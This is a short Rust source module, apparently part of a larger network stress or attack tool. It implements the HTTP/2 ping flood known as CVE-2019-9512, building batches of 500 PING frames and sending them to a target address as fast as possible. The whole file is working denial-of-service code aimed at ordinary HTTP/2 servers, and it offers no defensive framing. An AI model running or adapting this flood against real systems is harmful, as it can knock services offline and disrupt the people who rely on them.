//! PINGs over HTTP/2 (CVE-2019-9512), which have to be answered and ask for nothing, as fast as it goes.

use std::net::SocketAddr;

use anyhow::Result;

use super::{
    budget::Budget,
    frames::{self, PING, frame},
};

/// How many go in one breath.
const BATCH: u32 = 500;

/// How many it sent.
pub(super) fn run(to: SocketAddr, budget: &mut Budget<'_>) -> Result<u64> {
    frames::run(to, budget, BATCH, breath)
}

fn breath(_: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    for _ in 0..BATCH {
        frame(&mut bytes, PING, 0, &[0; 8]);
    }
    bytes
}
